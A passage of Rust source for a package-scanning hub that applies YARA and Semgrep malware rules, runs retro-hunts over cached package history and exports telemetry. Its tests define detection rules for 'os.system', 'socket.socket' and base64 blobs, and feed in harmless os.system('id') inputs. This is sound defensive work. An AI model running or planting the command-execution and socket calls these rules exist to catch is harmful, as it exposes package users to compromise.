                std::thread::spawn(move || worker_loop(&shared, worker_id))
            })
            .collect();
        ScanHub { shared, workers }
    }

    /// The prefilter index (for introspection and reporting).
    pub fn prefilter_index(&self) -> &PrefilterIndex {
        &self.shared.index
    }

    /// Diffs a candidate rule bundle against the hub's live one.
    ///
    /// Builds the new bundle's prefilter index with the atom interner
    /// seeded from the live index (stable interning — shared atoms keep
    /// their ids) and reports exactly which rules are new or changed
    /// their atom sets and which atoms the old index had never seen,
    /// packaged with changed-rules-only subset rulesets ready for
    /// [`ScanHub::retro_hunt`]. The hub itself keeps scanning with its
    /// current bundle: a retro-hunt is pre-swap screening of history.
    pub fn deploy_rules(
        &self,
        yara: Option<CompiledRules>,
        semgrep: Option<CompiledSemgrepRules>,
    ) -> RuleDeployment {
        let new_index =
            PrefilterIndex::build_seeded(yara.as_ref(), semgrep.as_ref(), Some(&self.shared.index));
        let delta = self.shared.index.diff(&new_index);
        RuleDeployment::build(delta, yara.as_ref(), semgrep.as_ref())
    }

    /// Runs the deployment's changed rules over the cached package
    /// history by querying the retro index and confirm-scanning only
    /// candidate digests. Returns `None` when the artifact cache or the
    /// retro index is disabled.
    ///
    /// Per-rule hit sets and per-digest verdicts are identical to
    /// [`ScanHub::retro_rescan`] (the exhaustive oracle) — pinned by
    /// the differential suite; only the candidate/scan counts differ,
    /// which is exactly the speedup.
    pub fn retro_hunt(&self, deployment: &RuleDeployment) -> Option<RetroReport> {
        let store = self.shared.artifacts.as_ref()?;
        let retro = store.retro.as_ref()?;
        let telemetry_on = self.shared.telemetry.enabled();
        let query_clock = telemetry_on.then(Instant::now);
        let counters = &self.shared.counters;
        HubCounters::add(&counters.retro_hunts, 1);

        let changed = &deployment.delta.changed;
        let (yara_len, semgrep_len) = deployment.subset_lens();
        let mut plan: std::collections::HashMap<DigestKey, (Vec<bool>, Vec<bool>)> =
            std::collections::HashMap::new();
        let mut per_rule_candidates: Vec<u64> = vec![0; changed.len()];
        let mut candidates_total = 0u64;
        let mut full_candidacy_rules = 0u64;
        let digests_indexed;
        {
            let retro = retro.lock().expect("retro index lock");
            digests_indexed = retro.digest_count() as u64;
            for (ci, rule) in changed.iter().enumerate() {
                // Candidates for this rule: `None` means "cannot gate —
                // full candidacy" (no exhaustive atom set). Sub-gram
                // atoms answer exactly from the 1/2-gram postings.
                let gated: Option<Vec<(DigestKey, bool)>> = if !rule.exhaustive {
                    None
                } else if rule.atoms.is_empty() {
                    // Exhaustive and atomless: the rule can never match
                    // (`condition: false`), so zero candidates is sound.
                    Some(Vec::new())
                } else {
                    let mut acc: std::collections::HashMap<DigestKey, bool> =
                        std::collections::HashMap::new();
                    let mut fallback = false;
                    for atom in &rule.atoms {
                        let Some(surface) =
                            retro.candidates_for_atom(atom, TermProvenance::Surface)
                        else {
                            fallback = true;
                            break;
                        };
                        match rule.engine {
                            // YARA scans raw bytes and every decoded
                            // layer; any-of atom semantics unions.
                            RuleEngine::Yara => {
                                acc.extend(surface);
                                let layer = retro
                                    .candidates_for_atom(atom, TermProvenance::Layer)
                                    .expect("same atom was surface-queryable");
                                acc.extend(layer);
                            }
                            // Semgrep parses Python surface text only.
                            RuleEngine::Semgrep => {
                                acc.extend(surface.into_iter().filter(|(_, python)| *python));
                            }
                        }
                    }
                    (!fallback).then(|| acc.into_iter().collect())
                };
                let list: Vec<(DigestKey, bool)> = match gated {
                    Some(list) => list,
                    None => {
                        full_candidacy_rules += 1;
                        let all = retro.all_digests();
                        match rule.engine {
                            RuleEngine::Yara => all,
                            RuleEngine::Semgrep => {
                                all.into_iter().filter(|(_, python)| *python).collect()
                            }
                        }
                    }
                };
                per_rule_candidates[ci] = list.len() as u64;
                candidates_total += list.len() as u64;
                let subset = deployment.subset_pos[ci];
                for (digest, _) in list {
                    let entry = plan
                        .entry(digest)
                        .or_insert_with(|| (vec![false; yara_len], vec![false; semgrep_len]));
                    match rule.engine {
                        RuleEngine::Yara => entry.0[subset] = true,
                        RuleEngine::Semgrep => entry.1[subset] = true,
                    }
                }
            }
        }
        if let Some(start) = query_clock {
            self.shared
                .telemetry
                .retro_query
                .record(start.elapsed().as_nanos() as u64);
        }

        let mut tasks: Vec<ConfirmTask> = plan
            .into_iter()
            .map(|(digest, (yara_mask, semgrep_mask))| ConfirmTask {
                digest,
                yara_mask,
                semgrep_mask,
            })
            .collect();
        tasks.sort_by_key(|a| a.digest);
        let outcome = confirm_scan(
            deployment,
            &tasks,
            |d| store.cache.lock().expect("artifact cache lock").get(d),
            |ns| {
                if telemetry_on {
                    self.shared.telemetry.retro_confirm.record(ns);
                }
            },
        );
        HubCounters::add(&counters.retro_candidates, candidates_total);
        HubCounters::add(&counters.retro_confirm_scans, outcome.scans);
        let mut rules = outcome.rules;
        for (rule, candidates) in rules.iter_mut().zip(per_rule_candidates) {
            rule.candidates = candidates;
        }
        Some(RetroReport {
            rules,
            verdicts: outcome.verdicts,
            digests_indexed,
            candidates: candidates_total,
            confirm_scans: outcome.scans,
            full_candidacy_rules,
        })
    }

    /// The exhaustive oracle: confirm-scans **every** resident digest
    /// with every changed rule, no index consulted. This is both the
    /// full-rescan baseline the bench times and the ground truth the
    /// differential suite compares [`ScanHub::retro_hunt`] against.
    /// Touches none of the retro counters or histograms.
    pub fn retro_rescan(&self, deployment: &RuleDeployment) -> Option<RetroReport> {
        let store = self.shared.artifacts.as_ref()?;
        let retro = store.retro.as_ref()?;
        let (yara_len, semgrep_len) = deployment.subset_lens();
        let all = retro.lock().expect("retro index lock").all_digests();
        let mut tasks: Vec<ConfirmTask> = all
            .iter()
            .map(|(digest, _)| ConfirmTask {
                digest: *digest,
                yara_mask: vec![true; yara_len],
                semgrep_mask: vec![true; semgrep_len],
            })
            .collect();
        tasks.sort_by_key(|a| a.digest);
        let outcome = confirm_scan(
            deployment,
            &tasks,
            |d| store.cache.lock().expect("artifact cache lock").get(d),
            |_| {},
        );
        let mut rules = outcome.rules;
        for rule in rules.iter_mut() {
            rule.candidates = all.len() as u64;
        }
        Some(RetroReport {
            rules,
            verdicts: outcome.verdicts,
            digests_indexed: all.len() as u64,
            candidates: deployment.delta.changed.len() as u64 * all.len() as u64,
            confirm_scans: outcome.scans,
            full_candidacy_rules: deployment.delta.changed.len() as u64,
        })
    }

    /// A snapshot of the service counters plus per-stage latency
    /// percentiles (zeroed when telemetry is off).
    pub fn stats(&self) -> HubStats {
        let mut stats = self.shared.counters.snapshot();
        stats.latency = self.shared.telemetry.latencies();
        let (atoms, digests) = self.retro_index_size();
        stats.retro_index_atoms = atoms;
        stats.retro_index_digests = digests;
        stats.artifact_bytes_resident = self.artifact_bytes_resident();
        stats.engine = textmatch::engine_counters();
        stats
    }

    /// Estimated heap bytes of every artifact resident in the artifact
    /// cache (sum of per-artifact [`FileAnalysis::stored_bytes`]); 0
    /// when the cache is disabled. A point-in-time gauge — capacity
    /// bounds entry count, this reports what those entries weigh.
    pub fn artifact_bytes_resident(&self) -> u64 {
        self.shared.artifacts.as_ref().map_or(0, |s| {
            s.cache
                .lock()
                .expect("artifact cache lock")
                .values()
                .map(|a| a.stored_bytes() as u64)
                .sum()
        })
    }

    /// Current retro-index size as `(indexed terms, live digests)` —
    /// both 0 when the index is disabled. Terms are folded content
    /// 3-grams (the realization of atom posting lists), so the gauge
    /// tracks index growth independent of which atoms rules use.
    pub fn retro_index_size(&self) -> (u64, u64) {
        let Some(retro) = self
            .shared
            .artifacts
            .as_ref()
            .and_then(|s| s.retro.as_ref())
        else {
            return (0, 0);
        };
        let retro = retro.lock().expect("retro index lock");
        (retro.term_count() as u64, retro.digest_count() as u64)
    }

    /// Whether per-stage timing and trace recording are on.
    pub fn telemetry_enabled(&self) -> bool {
        self.shared.telemetry.enabled()
    }

    /// The flight recorder's current contents, oldest first.
    pub fn traces(&self) -> Vec<ScanTrace> {
        self.shared.telemetry.recorder.snapshot()
    }

    /// Total traces ever recorded (the ring keeps only the newest
    /// [`HubConfig::trace_capacity`] of them).
    pub fn traces_recorded(&self) -> u64 {
        self.shared.telemetry.recorder.recorded()
    }

    /// The newest trace for the request with this hex content digest
    /// ([`ScanRequest::digest_hex`]) — how a gatekeeper explains a
    /// verdict after the fact. Traces carry digests only when the
    /// verdict cache is enabled (the hub never hashes solely to trace).
    pub fn trace_for_digest(&self, digest_hex: &str) -> Option<ScanTrace> {
        self.shared
            .telemetry
            .recorder
            .find(|t| t.digest.as_deref() == Some(digest_hex))
    }

    /// The slowest scan still in the flight recorder.
    pub fn worst_trace(&self) -> Option<ScanTrace> {
        self.traces().into_iter().max_by_key(|t| t.wall_ns)
    }

    /// Renders every hub metric — counters, gauges and stage histograms
    /// — in the Prometheus text exposition format.
    pub fn export_prometheus(&self) -> String {
        self.mirror_counters();
        self.shared.telemetry.registry.render_prometheus()
    }

    /// Renders every hub metric as a JSON document.
    pub fn export_json(&self) -> jsonmini::Value {
        self.mirror_counters();
        self.shared.telemetry.registry.render_json()
    }

    /// Copies the hot-path counters into registry metrics at export
    /// time: the scan path keeps writing plain relaxed atomics and the
    /// registry stays the single rendering point.
    fn mirror_counters(&self) {
        let reg = &self.shared.telemetry.registry;
        let stats = self.shared.counters.snapshot();
        for (name, help, value) in [
            (
                "scanhub_submitted_total",
                "Packages submitted",
                stats.submitted,
            ),
            (
                "scanhub_completed_total",
                "Packages fully processed",
                stats.completed,
            ),
            (
                "scanhub_cache_hits_total",
                "Verdict-cache hits",
                stats.cache_hits,
            ),
            (
                "scanhub_bytes_scanned_total",
                "Buffer bytes scanned",
                stats.bytes_scanned,
            ),
            (
                "scanhub_artifact_parses_total",
                "File entries analyzed from scratch",
                stats.artifact_parses,
            ),
            (
                "scanhub_artifact_cache_hits_total",
                "File entries served from the artifact cache",
                stats.artifact_cache_hits,
            ),
            (
                "scanhub_incremental_relexes_total",
                "Artifacts built by diff-and-splice against a cached sibling",
                stats.incremental_relexes,
            ),
            (
                "scanhub_splice_fallbacks_total",
                "Splice attempts that fell back to a full reparse",
                stats.splice_fallbacks,
            ),
            (
                "scanhub_relexed_bytes_total",
                "Bytes re-lexed by incremental splice windows",
                stats.relexed_bytes,
            ),
            (
                "scanhub_layers_decoded_total",
                "Decoded payload layers extracted",
                stats.layers_decoded,
            ),
            (
                "scanhub_taint_analyses_total",
                "Taint analyses run at artifact-build time",
                stats.taint_analyses,
            ),
            (
                "scanhub_flows_found_total",
                "Source-to-sink taint flows found",
                stats.flows_found,
            ),
            (
                "scanhub_consts_folded_total",
                "Constant strings folded into synthetic layers",
                stats.consts_folded,
            ),
            (
                "scanhub_yara_rules_evaluated_total",
                "YARA condition evaluations",
                stats.yara_rules_evaluated,
            ),
            (
                "scanhub_yara_rules_skipped_total",
                "YARA evaluations skipped by the prefilter",
                stats.yara_rules_skipped,
            ),
            (
                "scanhub_semgrep_rules_evaluated_total",
                "Semgrep rule evaluations",
                stats.semgrep_rules_evaluated,
            ),
            (
                "scanhub_semgrep_rules_skipped_total",
                "Semgrep evaluations skipped by the prefilter",
                stats.semgrep_rules_skipped,
            ),
            (
                "scanhub_retro_hunts_total",
                "Retro-hunt deployments executed",
                stats.retro_hunts,
            ),
            (
                "scanhub_retro_candidates_total",
                "Digests nominated by the retro index across all hunts",
                stats.retro_candidates,
            ),
            (
                "scanhub_retro_confirm_scans_total",
                "Digests confirm-scanned by retro-hunts",
                stats.retro_confirm_scans,
            ),
        ] {
            reg.counter(name, help).set(value);
        }
        // Matching-tier counters from the textmatch engine. These are
        // process-global (the tiers run inside per-scan hot loops with
        // no hub handle), so two hubs in one process export the same
        // values — still monotonic, still safe to rate().
        let eng = textmatch::engine_counters();
        for (name, help, value) in [
            (
                "textmatch_teddy_scans_total",
                "Multi-literal scans served by the Teddy prefilter tier",
                eng.teddy_scans,
            ),
            (
                "textmatch_teddy_bytes_scanned_total",
                "Haystack bytes classified by the Teddy SWAR loop",
                eng.teddy_bytes_scanned,
            ),
            (
                "textmatch_teddy_chunks_classified_total",
                "8-start chunks examined by the Teddy classifier",
                eng.teddy_chunks_classified,
            ),
            (
                "textmatch_teddy_chunks_verified_total",
                "Chunks whose candidate mask required bucket verification",
                eng.teddy_chunks_verified,
            ),
            (
                "textmatch_ac_fallback_scans_total",
                "Multi-literal scans routed to the Aho-Corasick fallback",
                eng.ac_fallback_scans,
            ),
            (
                "textmatch_dfa_scans_total",
                "Regex scans where the lazy DFA ran",
                eng.dfa_scans,
            ),
            (
                "textmatch_dfa_states_built_total",
                "Lazy-DFA states determinized on demand",
                eng.dfa_states_built,
            ),
            (
                "textmatch_dfa_cache_flushes_total",
                "Bounded-cache overflows that flushed the DFA state table",
                eng.dfa_cache_flushes,
            ),
            (
                "textmatch_pikevm_fallbacks_total",
                "Scans abandoned by a thrashing DFA and re-run on the Pike VM",
                eng.pikevm_fallbacks,
            ),
        ] {
            reg.counter(name, help).set(value);
        }
        let (retro_atoms, retro_digests) = self.retro_index_size();
        reg.gauge(
            "scanhub_retro_index_atoms",
            "Distinct indexed retro-hunt terms (folded content 3-grams)",
        )
        .set(retro_atoms as i64);
        reg.gauge(
            "scanhub_retro_index_digests",
            "Content digests resident in the retro-hunt index",
        )
        .set(retro_digests as i64);
        reg.gauge("scanhub_cached_verdicts", "Verdicts currently cached")
            .set(self.cached_verdicts() as i64);
        reg.gauge(
            "scanhub_cached_artifacts",
            "File artifacts currently cached",
        )
        .set(self.cached_artifacts() as i64);
        reg.gauge(
            "scanhub_artifact_bytes_resident",
            "Estimated heap bytes of all cache-resident file artifacts",
        )
        .set(self.artifact_bytes_resident() as i64);
        reg.gauge(
            "scanhub_flight_recorder_traces",
            "Scan traces currently held in the flight recorder",
        )
        .set(self.shared.telemetry.recorder.len() as i64);
    }

    /// Number of verdicts currently cached.
    pub fn cached_verdicts(&self) -> usize {
        self.shared
            .cache
            .as_ref()
            .map_or(0, |c| c.lock().expect("cache lock").len())
    }

    /// Number of per-file artifacts currently cached.
    pub fn cached_artifacts(&self) -> usize {
        self.shared
            .artifacts
            .as_ref()
            .map_or(0, |s| s.cache.lock().expect("artifact cache lock").len())
    }

    /// Submits one package; blocks while the queue is full.
    pub fn submit(&self, request: ScanRequest) -> Ticket {
        let c = &self.shared.counters;
        let tel = &self.shared.telemetry;
        let submitted_at = tel.enabled().then(Instant::now);
        HubCounters::add(&c.submitted, 1);
        let digest = self.shared.cache.as_ref().map(|_| request.digest());
        // The cache stage covers digesting the request plus the verdict
        // lookup; on a miss it rides along on the job and lands in the
        // worker's trace.
        let mut cache_ns = 0u64;
        if let (Some(cache), Some(d)) = (&self.shared.cache, &digest) {
            let hit = cache.lock().expect("cache lock").get(d);
            cache_ns = submitted_at.map_or(0, |t| t.elapsed().as_nanos() as u64);
            if let Some(mut verdict) = hit {
                verdict.from_cache = true;
                HubCounters::add(&c.cache_hits, 1);
                HubCounters::add(&c.completed, 1);
                if tel.enabled() {
                    let stages = StageNanos {
                        cache: cache_ns,
                        ..StageNanos::default()
                    };
                    let wall_ns = submitted_at.map_or(0, |t| t.elapsed().as_nanos() as u64);
                    tel.record(&stages, wall_ns);
                    tel.push_trace(|seq| ScanTrace {
                        seq,
                        worker: None,
                        digest: digest.as_ref().map(digest::to_hex),
                        files: request.files().len(),
                        bytes: request.scan_len() as u64,
                        from_cache: true,
                        flagged: verdict.flagged(),
                        stages,
                        wall_ns,
                        fired: fired_from_verdict(&verdict),
                    });
                }
                return Ticket::ready(verdict);
            }
        }
        let ticket = Arc::new(TicketState {
            slot: Mutex::new(None),
            ready: Condvar::new(),
        });
        let mut job = Job {
            request,
            digest,
            ticket: Arc::clone(&ticket),
            submitted_at,
            enqueued_at: None,
            cache_ns,
        };
        let mut queue = self.shared.queue.lock().expect("queue lock");
        while queue.jobs.len() >= self.shared.capacity && !queue.closed {
            queue = self.shared.not_full.wait(queue).expect("queue wait");
        }
        job.enqueued_at = submitted_at.map(|_| Instant::now());
        queue.jobs.push_back(job);
        drop(queue);
        self.shared.not_empty.notify_one();
        Ticket { state: ticket }
    }

    /// Submits a batch and returns the verdicts in submission order.
    pub fn scan_ordered<I>(&self, requests: I) -> Vec<Verdict>
    where
        I: IntoIterator<Item = ScanRequest>,
    {
        let tickets: Vec<Ticket> = requests.into_iter().map(|r| self.submit(r)).collect();
        tickets.iter().map(Ticket::wait).collect()
    }
}

impl Drop for ScanHub {
    fn drop(&mut self) {
        {
            let mut queue = self.shared.queue.lock().expect("queue lock");
            queue.closed = true;
        }
        self.shared.not_empty.notify_all();
        self.shared.not_full.notify_all();
        for handle in self.workers.drain(..) {
            let _ = handle.join();
        }
    }
}

/// Per-worker reusable scan state. Every slot is either generation-
/// stamped or cleared before use, so a worker's steady-state scan path
/// performs no allocation beyond actual findings and cold artifacts.
struct WorkerScratch {
    routing: Routing,
    prefilter: PrefilterScratch,
    yara: ScanScratch,
    semgrep: MatchScratch,
    findings: Vec<semgrep_engine::Finding>,
    ids: HashSet<String>,
    artifacts: Vec<Arc<FileAnalysis>>,
    layer_marks: Vec<bool>,
}

impl WorkerScratch {
    fn new() -> Self {
        WorkerScratch {
            routing: Routing::empty(),
            prefilter: PrefilterScratch::new(),
            yara: ScanScratch::new(),
            semgrep: MatchScratch::new(),
            findings: Vec::new(),
            ids: HashSet::new(),
            artifacts: Vec::new(),
            layer_marks: Vec::new(),
        }
    }
}

fn worker_loop(shared: &Shared, worker_id: usize) {
    // Per-worker reusable matcher state: the merged Aho–Corasick
    // automatons and the Semgrep anchor index are built once per worker,
    // not once per package — and neither ever parses pattern text.
    let scanner = shared.yara.as_ref().map(Scanner::new);
    let matcher = shared.semgrep.as_ref().map(MatchSet::new);
    let mut scratch = WorkerScratch::new();
    loop {
        let job = {
            let mut queue = shared.queue.lock().expect("queue lock");
            loop {
                if let Some(job) = queue.jobs.pop_front() {
                    break job;
                }
                if queue.closed {
                    return;
                }
                queue = shared.not_empty.wait(queue).expect("queue wait");
            }
        };
        shared.not_full.notify_one();
        let queue_ns = job.enqueued_at.map_or(0, |t| t.elapsed().as_nanos() as u64);
        // A panic while scanning one hostile package must neither strand
        // the caller on an unfulfilled ticket nor take the worker down.
        let outcome = std::panic::catch_unwind(std::panic::AssertUnwindSafe(|| {
            scan_job(
                shared,
                scanner.as_ref(),
                matcher.as_ref(),
                &mut scratch,
                &job.request,
            )
        }));
        match outcome {
            Ok((verdict, mut stages)) => {
                if let (Some(cache), Some(d)) = (&shared.cache, &job.digest) {
                    cache
                        .lock()
                        .expect("cache lock")
                        .insert(*d, verdict.clone());
                }
                HubCounters::add(&shared.counters.completed, 1);
                let tel = &shared.telemetry;
                if tel.enabled() {
                    stages.queue = queue_ns;
                    stages.cache = job.cache_ns;
                    let wall_ns = job
                        .submitted_at
                        .map_or(0, |t| t.elapsed().as_nanos() as u64);
                    tel.record(&stages, wall_ns);
                    // The trace lands in the recorder *before* the
                    // ticket resolves: a caller returning from `wait`
                    // can always find its own scan.
                    tel.push_trace(|seq| ScanTrace {
                        seq,
                        worker: Some(worker_id),
                        digest: job.digest.as_ref().map(digest::to_hex),
                        files: job.request.files().len(),
                        bytes: job.request.scan_len() as u64,
                        from_cache: false,
                        flagged: verdict.flagged(),
                        stages,
                        wall_ns,
                        fired: fired_from_verdict(&verdict),
                    });
                }
                job.ticket.fulfill(Ok(verdict));
            }
            Err(panic) => {
                let msg = panic
                    .downcast_ref::<String>()
                    .map(String::as_str)
                    .or_else(|| panic.downcast_ref::<&str>().copied())
                    .unwrap_or("opaque panic payload");
                job.ticket
                    .fulfill(Err(format!("scan worker panicked: {msg}")));
            }
        }
    }
}

/// Fetches or builds the per-file artifacts for one request, leaving
/// them in `out` (request order).
///
/// Building runs the whole ruleset's string scan and the full parse up
/// front — artifacts are pure functions of `(ruleset, bytes)`, so they
/// cannot depend on per-request routing. A never-seen digest therefore
/// pays more than the seed's routed scan did; every repeat pays
/// nothing. Routing still gates condition evaluation and the Semgrep
/// walk downstream.
/// Get-or-build every file's analysis artifact. Returns the nanoseconds
/// spent in splice attempts (0 when telemetry is off) — nested inside
/// the caller's `artifact` lap, reported as the `splice` stage.
fn gather_artifacts(
    shared: &Shared,
    scanner: Option<&Scanner<'_>>,
    request: &ScanRequest,
    out: &mut Vec<Arc<FileAnalysis>>,
) -> u64 {
    let c = &shared.counters;
    // Downstream-product accounting shared by the full-build and splice
    // paths: a spliced artifact recomputes layers, taint and regex hits
    // from scratch (only lex/parse is incremental), so it bumps the
    // same work counters.
    let tally = |built: &Arc<FileAnalysis>| {
        if let Some(taint) = &built.taint {
            HubCounters::add(&c.taint_analyses, 1);
            HubCounters::add(&c.flows_found, taint.flows.len() as u64);
            HubCounters::add(&c.consts_folded, taint.folded.len() as u64);
        }
        HubCounters::add(&c.layers_decoded, built.layers.len() as u64);
        HubCounters::add(
            &c.layer_bytes_scanned,
            built.layers.iter().map(|l| l.data.len() as u64).sum(),
        );
        // Regex work happens exactly once per unique file, at
        // artifact-build time; cache hits pay none.
        for hits in built.yara_hits.iter().chain(&built.layer_hits) {
            HubCounters::add(
                &c.regex_strings_evaluated,
                hits.metrics.regex_strings_evaluated,
            );
            HubCounters::add(&c.regex_bytes_scanned, hits.metrics.regex_bytes_scanned);
        }
    };
    let build = |entry| {
        HubCounters::add(&c.artifact_parses, 1);
        let built = Arc::new(FileAnalysis::build(entry, scanner, &shared.artifact_config));
        tally(&built);
        built
    };
    let timing = shared.telemetry.enabled();
    let mut splice_ns = 0u64;
    out.clear();
    for entry in request.files() {
        let artifact = match &shared.artifacts {
            None => build(entry),
            Some(store) => match store.get_or_claim(&entry.digest()) {
                Ok(artifact) => {
                    HubCounters::add(&c.artifact_cache_hits, 1);
                    artifact
                }
                Err(claim) => {
                    // Digest miss: before paying a full reparse, try to
                    // splice the edit into the cache-resident previous
                    // version of the same file (ISSUE 10). Non-Python
                    // siblings are not splice candidates and count
                    // neither as relexes nor as fallbacks.
                    let spliced = store.sibling(entry.name()).and_then(|sibling| {
                        let started = timing.then(Instant::now);
                        let result = FileAnalysis::build_spliced(
                            entry,
                            &sibling,
                            scanner,
                            &shared.artifact_config,
                        );
                        if let Some(at) = started {
                            splice_ns += at.elapsed().as_nanos() as u64;
                        }
                        if result.is_none() && sibling.is_python {
                            HubCounters::add(&c.splice_fallbacks, 1);
                        }
                        result
                    });
                    let built = match spliced {
                        Some(spliced) => {
                            HubCounters::add(&c.incremental_relexes, 1);
                            HubCounters::add(&c.relexed_bytes, spliced.relexed_bytes);
                            let built = Arc::new(spliced.analysis);
                            tally(&built);
                            built
                        }
                        None => build(entry),
                    };
                    claim.publish(&built);
                    store.record_sibling(entry.name(), entry.digest());
                    built
                }
            },
        };
        out.push(artifact);
    }
    splice_ns
}

fn scan_job(
    shared: &Shared,
    scanner: Option<&Scanner<'_>>,
    matcher: Option<&MatchSet<'_>>,
    scratch: &mut WorkerScratch,
    request: &ScanRequest,
) -> (Verdict, StageNanos) {
    let mut clock = StageClock::start(shared.telemetry.enabled());
    let mut stages = StageNanos::default();
    let c = &shared.counters;
    let WorkerScratch {
        routing,
        prefilter,
        yara: yara_scratch,
        semgrep: semgrep_scratch,
        findings,
        ids,
        artifacts,
        layer_marks,
    } = scratch;
    // Phase 1: get-or-build every file's analysis artifact. This is the
    // only phase that touches file bytes; a warm artifact cache makes a
    // re-uploaded package version re-analyze only its changed files.
    stages.splice = gather_artifacts(shared, scanner, request, artifacts);
    stages.artifact = clock.lap();
    // Phase 2: route the package from the artifacts (raw bytes, decoded
    // layers, Python sources).
    if shared.prefilter {
        shared
            .index
            .route_artifacts_into(artifacts, routing, prefilter);
    } else {
        shared.index.route_all_into(routing);
    }
    stages.prefilter = clock.lap();
    let total_len = request.scan_len();
    HubCounters::add(&c.bytes_scanned, total_len as u64);

    let mut verdict = Verdict::default();
    // Phase 3: YARA — evaluate routed conditions over the union of the
    // files' cached hit sets (no byte is re-scanned), then each decoded
    // layer as its own unit, tagging layer findings by provenance.
    if let Some(scanner) = scanner {
        let routed = routing.yara_routed();
        count(&c.yara_rules_evaluated, routed);
        count(&c.yara_rules_skipped, routing.yara.len() - routed);
        if routed == 0 {
            HubCounters::add(&c.yara_scans_skipped, 1);
        } else {
            let mut offset = 0usize;
            let parts = artifacts.iter().map(|a| {
                let base = offset;
                // +1 for the virtual newline separator between units
                // (see `ScanRequest::concat_buffer`).
                offset += a.bytes.len() + 1;
                (base, a.yara_hits.as_ref().expect("scanner built hits"))
            });
            let hits =
                scanner.eval_hits(parts, total_len as i64, |ri| routing.yara[ri], yara_scratch);
            for hit in hits {
                verdict.yara.push(hit.rule);
            }
            stages.yara = clock.lap();
            for (entry, artifact) in request.files().iter().zip(artifacts.iter()) {
                for (layer, layer_hits) in artifact.layers.iter().zip(&artifact.layer_hits) {
                    // A layer with no string hit can only satisfy
                    // stringless conditions (filesize, negations) that
                    // say nothing about the payload: skip it.
                    if layer_hits.is_empty() {
                        continue;
                    }
                    // Restrict evaluation to rules with evidence *in*
                    // this layer: stringless and negation-only
                    // conditions are package-routed unconditionally and
                    // would otherwise hold trivially against the tiny
                    // unit-local filesize.
                    scanner.mark_rules_with_hits(layer_hits, layer_marks);
                    let matches = scanner.eval_hits(
                        [(0usize, layer_hits)],
                        layer.data.len() as i64,
                        |ri| routing.yara[ri] && layer_marks[ri],
                        yara_scratch,
                    );
                    for m in matches {
                        verdict.layers.push(LayerFinding {
                            rule: m.rule,
                            file: entry.name().to_owned(),
                            encoding: layer.encoding,
                            depth: layer.depth,
                            line: layer.line,
                        });
                    }
                }
            }
            stages.layers = clock.lap();
        }
    }
    // Phase 4: Semgrep — one anchored walk per cached module; nothing on
    // this path parses Python or pattern text.
    if let Some(matcher) = matcher {
        let routed = routing.semgrep_routed();
        count(&c.semgrep_rules_evaluated, routed);
        count(&c.semgrep_rules_skipped, routing.semgrep.len() - routed);
        let has_python = artifacts.iter().any(|a| a.module.is_some());
        if routed == 0 || !has_python {
            HubCounters::add(&c.semgrep_parses_skipped, 1);
        } else {
            ids.clear();
            let mut metrics = SemgrepMetrics::default();
            for artifact in artifacts.iter() {
                let Some(module) = &artifact.module else {
                    continue;
                };
                findings.clear();
                metrics.absorb(matcher.match_module_set_into(
                    module.get(),
                    |ri| routing.semgrep[ri],
                    semgrep_scratch,
                    findings,
                ));
                for finding in findings.drain(..) {
                    ids.insert(finding.rule_id);
                }
            }
            HubCounters::add(&c.semgrep_stmts_visited, metrics.stmts_visited);
            HubCounters::add(&c.semgrep_pattern_reparses, metrics.pattern_reparses);
            verdict.semgrep = ids.drain().collect();
            stages.semgrep = clock.lap();
        }
    }
    // Phase 5: behavior engine — aggregate the cached per-file taint
    // summaries into file-stamped flow records. The analysis itself is
    // artifact work (exactly once per unique digest); this stage only
    // copies flows out, so its warm cost is proportional to findings,
    // not file content.
    if shared.artifact_config.dataflow {
        for (entry, artifact) in request.files().iter().zip(artifacts.iter()) {
            let Some(summary) = &artifact.taint else {
                continue;
            };
            for flow in &summary.flows {
                verdict.flows.push(FlowRecord {
                    file: entry.name().to_owned(),
                    flow: flow.clone(),
                });
            }
        }
        stages.dataflow = clock.lap();
    }
    // Drop the artifact handles so cache eviction can actually free.
    artifacts.clear();
    verdict.normalize();
    stages.verdict = clock.lap();
    (verdict, stages)
}

fn count(counter: &AtomicU64, n: usize) {
    HubCounters::add(counter, n as u64);
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::request::FileEntry;

    const YARA: &str = r#"
rule sys { strings: $a = "os.system" condition: $a }
rule net { strings: $a = "socket.socket" condition: $a }
rule b64 { strings: $re = /[A-Za-z0-9+\/]{16,}/ condition: $re }
"#;

    const SEMGREP: &str = "rules:\n  - id: sys-call\n    languages: [python]\n    message: m\n    pattern: os.system($X)\n";

    fn hub(config: HubConfig) -> ScanHub {
        ScanHub::new(
            Some(yara_engine::compile(YARA).expect("yara")),
            Some(semgrep_engine::compile(SEMGREP).expect("semgrep")),
            config,
        )
    }

    fn request(code: &str) -> ScanRequest {
        ScanRequest::from_source("upload.py", code)
    }

    #[test]
    fn verdicts_match_both_engines() {
        let hub = hub(HubConfig::default());
        let v = hub.submit(request("import os\nos.system('id')\n")).wait();
        assert_eq!(v.yara, vec!["sys".to_owned()]);
        assert_eq!(v.semgrep, vec!["sys-call".to_owned()]);
        assert!(!v.from_cache);
        assert!(v.flagged());
    }

    #[test]
    fn clean_package_passes() {
        let hub = hub(HubConfig::default());
        let v = hub.submit(request("print('hi')\n")).wait();
        assert!(!v.flagged());
    }

    #[test]
    fn resubmission_is_served_from_cache_with_same_verdict() {
        let hub = hub(HubConfig::default());
        let first = hub.submit(request("import os\nos.system('id')\n")).wait();
        let second = hub.submit(request("import os\nos.system('id')\n")).wait();
        assert!(!first.from_cache);
        assert!(second.from_cache);
        assert!(first.same_matches(&second));
        let stats = hub.stats();
        assert_eq!(stats.cache_hits, 1);
        assert_eq!(stats.submitted, 2);
        assert_eq!(stats.completed, 2);
    }

    #[test]
    fn cache_can_be_disabled() {
        let hub = hub(HubConfig {
            cache_capacity: 0,
            ..HubConfig::default()
        });
        let a = hub.submit(request("x = 1\n")).wait();
        let b = hub.submit(request("x = 1\n")).wait();
        assert!(!a.from_cache && !b.from_cache);
        assert_eq!(hub.stats().cache_hits, 0);
    }

    #[test]
    fn artifact_cache_serves_unchanged_files_across_requests() {
        let hub = hub(HubConfig {
            cache_capacity: 0, // force full scans so artifacts are exercised
            ..HubConfig::default()
        });
        let shared = FileEntry::new("pkg/util.py", b"import os\nos.system('id')\n".to_vec());
        let v1 = FileEntry::new("pkg/__init__.py", b"VERSION = '1.0'\n".to_vec());
        let v2 = FileEntry::new("pkg/__init__.py", b"VERSION = '1.1'\n".to_vec());
        let first = hub
            .submit(ScanRequest::from_files(vec![shared.clone(), v1]))
            .wait();
        let second = hub
